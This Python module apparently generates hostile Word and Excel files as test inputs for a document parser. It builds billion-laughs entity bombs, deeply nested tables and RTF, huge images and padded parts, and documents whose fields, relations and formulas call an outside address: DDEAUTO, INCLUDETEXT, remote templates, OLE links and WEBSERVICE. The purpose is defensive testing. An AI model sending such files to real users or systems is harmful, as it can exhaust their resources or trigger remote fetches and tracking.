"""Word and Excel files made to harm: bombs of entities, depth and size, and calls to elsewhere.

A file of :data:`CALLING` asks whoever opens it to fetch something; nobody may.
"""

import struct
from collections.abc import Callable, Iterator, Mapping
from html import escape

from hostile_evidence import REL, office, pixels, workbook

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_P = "http://schemas.openxmlformats.org/drawingml/2006/picture"
_D = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_SPACES = f'xmlns:w="{_W}" xmlns:r="{REL}" xmlns:a="{_A}" xmlns:pic="{_P}" xmlns:wp="{_D}"'
_LAUGHS = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha" * 5}">' for n in range(10))
_BOMB = f"<!DOCTYPE x [{_LAUGHS}]>"


def relations(*entries: tuple[str, str, str]) -> bytes:
    """A part of relations: type, target, and External or nothing."""
    listed = "".join(
        f'<Relationship Id="r{n}" Type="{REL}/{kind}" Target="{escape(target)}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(entries, 1)
    )
    return f'<Relationships xmlns="{_RELATIONS}">{listed}</Relationships>'.encode()


def word(body: str, *related: tuple[str, str, str], before: str = "", **parts: bytes) -> bytes:
    """A Word file of this body; `parts` are others, ``media__a`` being word/media/a."""
    document = f"{before}<w:document {_SPACES}><w:body>{body}</w:body></w:document>"
    others = {f"word/{name.replace('__', '/')}": content for name, content in parts.items()}
    return office(
        "docx",
        {
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": relations(*related),
            **others,
        },
    )


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def drawn(relation: str, how: str = "embed") -> str:
    """A paragraph with a picture."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/>'
        f'<wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="{_P}"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip r:{how}="{relation}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def field(instruction: str) -> str:
    """A paragraph with a field that has no result."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText '
        f'xml:space="preserve"> {escape(instruction)} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def laughing_document() -> bytes:
    """A Word file of ten entities that come to fifty gigabytes."""
    return word(said("&e9;"), before=_BOMB)


def laughing_workbook() -> bytes:
    """The same in a sheet."""
    cell = '<c r="A1" t="inlineStr"><is><t>&e9;</t></is></c>'
    return workbook(
        f'{_BOMB}<worksheet xmlns="{_S}"><sheetData><row r="1">{cell}</row></sheetData>'
        "</worksheet>".encode()
    )


def laughing_picture() -> bytes:
    """The same in an SVG within a Word file."""
    space = 'xmlns="http://www.w3.org/2000/svg"'
    svg = f'{_BOMB}<svg {space} width="9" height="9"><text>&e9;</text></svg>'
    return word(drawn("r1"), ("image", "media/a.svg", ""), **{"media__a.svg": svg.encode()})


def merged_table() -> bytes:
    """A Word table of cells that span a million columns and all rows."""
    row = (
        '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/><w:vMerge{}/></w:tcPr>'
        f"{said('a')}</w:tc></w:tr>"
    )
    rows = row.format(' w:val="restart"') + row.format("") * 200
    return word(f"<w:tbl><w:tblPr/><w:tblGrid/>{rows}</w:tbl>{said('b')}")


def nested_tables(depth: int = 400) -> bytes:
    """Tables within tables."""
    opened = "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='9000'/></w:tblGrid><w:tr><w:tc>"
    return word(opened * depth + said("a") + "</w:tc></w:tr></w:tbl><w:p/>" * depth)


def many_frames_gif(count: int = 20_000) -> bytes:
    """A GIF of so many pictures of a dot (GIF89a)."""
    head = b"GIF89a" + struct.pack("<HHBBB", 3000, 3000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"\x21\xf9\4\0\1\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    return head + (frame + b"\2\2\x44\1\0") * count + b"\x3b"


def document_of_frames() -> bytes:
    """A Word file with such a GIF."""
    gif = many_frames_gif()
    return word(drawn("r1"), ("image", "media/a.gif", ""), **{"media__a.gif": gif})


def document_of_pixels() -> bytes:
    """A Word file with a picture of 900 megapixels."""
    png = pixels(30_000, 30_000)
    return word(drawn("r1"), ("image", "media/a.png", ""), **{"media__a.png": png})


def packed_part() -> bytes:
    """A Word file with 400 MB of nothing in a part that nobody asks for, and as much in styles."""

    def blanks() -> Iterator[bytes]:
        yield f'<w:styles xmlns:w="{_W}">'.encode()
        for _ in range(400):
            yield b" " * (1 << 20)
        yield b"</w:styles>"

    body = f"<w:document {_SPACES}><w:body>{said('a')}</w:body></w:document>"
    return office(
        "docx",
        {
            "word/document.xml": body.encode(),
            "word/_rels/document.xml.rels": relations(("styles", "styles.xml", "")),
            "word/styles.xml": blanks(),
            "word/media/nothing.bin": (b"\0" * (1 << 20) for _ in range(400)),
        },
    )


def chunk_of_rtf(depth: int = 200_000) -> bytes:
    """A Word file with RTF of groups within groups, and a table of a row that never ends."""
    rtf = b"{\\rtf1 " + b"{\\b " * depth + b"x" + b"}" * depth + b"\\trowd" + b"\\cellx1" * depth
    chunk = "<w:altChunk r:id='r1'/>"
    return word(chunk + said("a"), ("aFChunk", "a.rtf", ""), **{"a.rtf": rtf + b"\\cell\\row}"})


def chunk_of_documents(depth: int = 6) -> bytes:
    """Word files within each other, each twice."""
    made = word(said("a" * 100_000))
    for _ in range(depth):
        body = "<w:altChunk r:id='r1'/><w:altChunk r:id='r1'/>"
        made = word(body, ("aFChunk", "a.docx", ""), **{"a.docx": made})
    return made


def long_row() -> bytes:
    """A sheet whose rows and columns are all in use by their last cells."""
    cells = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in (1, 1_048_576))
    return workbook(f'<worksheet xmlns="{_S}"><sheetData>{cells}</sheetData></worksheet>'.encode())


def many_formats(count: int = 300_000) -> bytes:
    """A sheet of so many cells of text."""

    def sheet() -> Iterator[bytes]:
        yield f'<worksheet xmlns="{_S}"><sheetData>'.encode()
        for row in range(1, count // 30 + 1):
            cells = '<c t="inlineStr"><is><t>文字文字</t></is></c>' * 30
            yield f'<row r="{row}">{cells}</row>'.encode()
        yield b"</sheetData></worksheet>"

    return workbook(sheet())


BOMBS: Mapping[str, Callable[[], bytes]] = {
    "laughs.docx": laughing_document,
    "laughs.xlsx": laughing_workbook,
    "laughs-svg.docx": laughing_picture,
    "merged.docx": merged_table,
    "nested.docx": nested_tables,
    "frames.docx": document_of_frames,
    "pixels.docx": document_of_pixels,
    "packed.docx": packed_part,
    "rtf.docx": chunk_of_rtf,
    "documents.docx": chunk_of_documents,
    "corners.xlsx": long_row,
    "texts.xlsx": many_formats,
}


def calling_fields(address: str) -> bytes:
    """Fields that take in what lies elsewhere."""
    return word(
        said("正文")
        + field(f'INCLUDETEXT "{address}/text.docx"')
        + field(f'INCLUDEPICTURE "{address}/field.png" \\d')
        + field(f'LINK Excel.Sheet.12 "{address}/book.xlsx" "数据!R1C1" \\a \\f 0')
        + field(f"DDEAUTO soffice {address}/dde.ods A1")
        + field(f'RD "{address}/toc.docx"')
    )


def calling_parts(address: str) -> bytes:
    """Pictures, a template, a chunk and an object that lie elsewhere."""
    html = f'<html><body><img src="{address}/html.png"><p>网页</p></body></html>'.encode()
    settings = (
        f'<w:settings xmlns:w="{_W}" xmlns:r="{REL}"><w:attachedTemplate r:id="r1"/></w:settings>'
    )
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="9" height="9"><image xlink:href="{address}/svg.png" width="9" height="9"/></svg>'
    )
    return word(
        said("正文")
        + drawn("r1", "link")
        + drawn("r2")
        + "<w:altChunk r:id='r3'/><w:altChunk r:id='r4'/>"
        + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Link" ProgID="Word.Document.12" ShapeID="s" DrawAspect="Content" r:id="r5" '
        'UpdateMode="Always"/></w:object></w:r></w:p>',
        ("image", f"{address}/linked.png", "External"),
        ("image", "media/a.svg", ""),
        ("aFChunk", "a.html", ""),
        ("aFChunk", f"{address}/chunk.html", "External"),
        ("oleObject", f"{address}/object.docx", "External"),
        ("settings", "settings.xml", ""),
        **{
            "media__a.svg": svg.encode(),
            "a.html": html,
            "settings.xml": settings.encode(),
            "_rels__settings.xml.rels": relations(
                ("attachedTemplate", f"{address}/template.dotx", "External")
            ),
        },
    )


def calling_workbook(address: str) -> bytes:
    """Formulas that ask elsewhere."""
    formulas = (
        f'WEBSERVICE("{address}/service")',
        f"'{address}/[other.xlsx]数据'!A1",
        f"soffice|'{address}/dde.ods'!A1",
        f'HYPERLINK("{address}/link","x")',
        f'IMAGE("{address}/cell.png")',
    )
    cells = "".join(
        f'<row r="{n}"><c r="A{n}"><f ca="1">{escape(one)}</f></c></row>'
        for n, one in enumerate(formulas, 1)
    )
    return workbook(f'<worksheet xmlns="{_S}"><sheetData>{cells}</sheetData></worksheet>'.encode())


CALLING: Mapping[str, Callable[[str], bytes]] = {
    "fields.docx": calling_fields,
    "parts.docx": calling_parts,
    "formulas.xlsx": calling_workbook,
}
